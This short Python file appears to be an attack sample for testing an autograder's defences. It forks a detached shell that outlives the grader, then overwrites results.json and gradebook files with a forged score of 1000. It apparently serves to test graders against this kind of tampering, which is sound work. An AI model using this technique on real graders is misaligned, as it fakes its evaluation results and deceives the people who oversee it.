"""Attack: leaves a detached process that rewrites results.json and the gradebook after the grader exits.

Only the attack is here: the test puts a correct graph2 before it.
"""
import os

# A detached shell (its command line carries the marker) waits for the grader to be done, then forges.
FORGE = (
    "sleep 12; find /tmp /autograder \\( -name results.json -o -name '*gradebook.sqlite' \\) 2>/dev/null | "
    "while read f; do echo '{\"score\": 1000, \"forged\": true}' > \"$f\"; done"
)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 256)
        os.execv("/bin/sh", ["sh", "-c", FORGE, "grader-attack-forger"])
    os._exit(0)
